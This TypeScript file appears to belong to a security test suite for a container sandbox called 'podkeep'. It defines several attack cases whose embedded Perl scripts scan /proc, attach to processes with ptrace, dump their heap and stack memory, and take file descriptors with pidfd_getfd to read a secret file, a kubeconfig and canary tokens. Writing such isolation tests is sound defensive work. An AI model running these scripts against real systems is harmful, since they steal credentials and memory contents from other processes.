/**
 * A container waits for processes that podkeep starts in it, for exec and probes, and looks through them
 * at where they come from: their root, their working directory, their descriptors, their memory.
 */
import { podAttack } from '../harness/pod-attack.ts';
import { perl } from '../harness/perl.ts';
import { probeOf, type PodShape } from '../harness/pods.ts';
import type { Attack } from '../harness/types.ts';

const KIND = 'tracing';
const EXECS = 8;

const common = `
my (%seen, %printed); my $end = time + 7; print "READY\\n";
my @files = ($ENV{SECRET_FILE}, "$ENV{DATA}/kubeconfig");
# Once each: a log that is full is rotated, and the nonce with it.
sub show { print @_ unless $printed{$_[0]}++ }
sub look { my ($p) = @_;
  for my $way ("$p/root", "$p/cwd") { for (@files) { my $t = slurp("$way$_"); show($t) if $t } }
}
while (time < $end) {
  opendir(my $d, '/proc') or last; my @pids = grep { /^\\d+$/ && $_ != $$PID } readdir $d; closedir $d;
  for my $pid (@pids) {`.replaceAll('$$PID', 'POSIX::getpid()');

const LOOK = perl(`${common}
    look("/proc/$pid");
    for my $fd (glob("/proc/$pid/fd/*")) {
      my $to = readlink $fd or next; next if $seen{"$pid $to"}++;
      if (-d $fd) { for (@files) { my $t = slurp("$fd/../../../../../../..$_"); show($t) if $t; } }
      elsif ($to =~ m{^/} && $to =~ /$ENV{DATA}/) { my $t = slurp($fd); show("$1\\n") while $t =~ /(canary-[0-9a-f]+-[0-9a-f]+)/g; }
    }
  }
}`);

/** Attaches to each new process, and reads what its memory and its root have. */
const ATTACH = perl(`${common}
    next if $seen{$pid}++ > 20;
    if (sys('ptrace', 16, $pid + 0, 0, 0) == 0) {
      waitpid($pid, 0x40000000);
      look("/proc/$pid");
      if (open(my $maps, '<', "/proc/$pid/maps")) {
        while (<$maps>) {
          /^([0-9a-f]+)-([0-9a-f]+) rw.*(?:heap|stack)/ or next;
          no warnings 'portable'; my ($a, $b) = (hex $1, hex $2);
          open(my $mem, '<', "/proc/$pid/mem") or last; sysseek($mem, $a, 0);
          sysread($mem, my $t, $b - $a > 1 << 21 ? 1 << 21 : $b - $a); next unless defined $t;
          show("$1\\n") while $t =~ /(canary-[0-9a-f]+-[0-9a-f]+)/g;
        }
      }
      sys('ptrace', 17, $pid + 0, 0, 0);
    }
  }
  select(undef, undef, undef, 0.001);
}`);

/** Takes descriptors of other processes by pidfd_getfd. */
const TAKE = perl(`${common}
    next if $seen{$pid}++ > 10;
    my $pidfd = sys('pidfd_open', $pid + 0, 0); next if $pidfd < 0;
    for my $n (0 .. 40) {
      my $fd = sys('pidfd_getfd', $pidfd, $n, 0); next if $fd < 0;
      my $to = readlink("/proc/self/fd/$fd") // '';
      show("SUCCEEDED: a descriptor of $pid leads to $to\\n") if index($to, $ENV{DATA}) == 0;
      if (-d "/proc/self/fd/$fd") { for (@files) { my $t = slurp("/proc/self/fd/$fd/../../../../../..$_"); show($t) if $t } }
      POSIX::close($fd);
    }
    POSIX::close($pidfd);
  }
}`);

/** Reads the memory of the first process of the container, which is a fork of podkeep's helper. */
const MEMORY = perl(
  `
  my %printed;
  for my $pid (1, grep { $_ != $$PID } map { m{(\\d+)} } glob('/proc/[0-9]*')) {
    open(my $maps, '<', "/proc/$pid/maps") or next;
    while (<$maps>) {
      /^([0-9a-f]+)-([0-9a-f]+) rw/ or next;
      no warnings 'portable'; my ($a, $b) = (hex $1, hex $2);
      open(my $mem, '<', "/proc/$pid/mem") or last;
      print "SUCCEEDED: the memory of podkeep in process 1 can be read\\n" if $pid == 1 && !$printed{one}++;
      sysseek($mem, $a, 0);
      sysread($mem, my $t, $b - $a > 1 << 23 ? 1 << 23 : $b - $a); next unless defined $t;
      while ($t =~ /(canary-[0-9a-f]+-[0-9a-f]+)/g) { print "$1\\n" unless $printed{$1}++ }
    }
  }
  print "LOOKED\\n";`.replaceAll('$$PID', 'POSIX::getpid()'),
);

const memory = (id: string, tries: string, pod: PodShape): Attack =>
  podAttack({ class: KIND, id, tries, pod, script: MEMORY, proof: /^LOOKED/m });

function trace(id: string, tries: string, script: string, pod: PodShape): Attack {
  return podAttack({
    class: KIND,
    id,
    tries,
    pod: { ...pod, container: { readinessProbe: probeOf('exit 0') } },
    script,
    drive: async (target, { name }) => {
      let output = '';
      for (let index = 0; index < EXECS; index++) {
        const tty = index % 2 === 1;
        const command = ['sh', '-c', 'echo in; sleep 0.1'];
        const request = { pod: name, container: 'main', command, tty, seconds: 5 };
        output += (await target.exec(tty ? { ...request, stdin: '' } : request)).output;
      }
      return output;
    },
    // A process that it has attached to may never print what it should.
    proof: /^READY/m,
  });
}

const PTRACE: PodShape = { as: 'root', capabilities: ['SYS_PTRACE'] };

export const TRACING: readonly Attack[] = [
  trace('look', 'It looks through processes that enter it.', LOOK, {}),
  trace('look-as-root', 'User 0 looks through processes that enter it.', LOOK, { as: 'root' }),
  trace('look-with-ptrace', 'With SYS_PTRACE it looks through processes that enter.', LOOK, PTRACE),
  trace('attach', 'It attaches to processes that enter it.', ATTACH, {}),
  trace('attach-as-root', 'User 0 attaches to processes that enter it.', ATTACH, { as: 'root' }),
  trace('attach-with-ptrace', 'With SYS_PTRACE it attaches to processes.', ATTACH, PTRACE),
  memory('memory', 'It reads the memory of its first process.', {}),
  memory('memory-as-root', 'User 0 reads the memory of its first process.', { as: 'root' }),
  memory('memory-host-users', 'User 0 of the machine reads the memory of its first process.', {
    as: 'root',
    spec: { hostUsers: true },
  }),
  trace('take', 'It takes descriptors of processes that enter it.', TAKE, {}),
  trace('take-with-ptrace', 'With SYS_PTRACE it takes descriptors of processes.', TAKE, PTRACE),
];
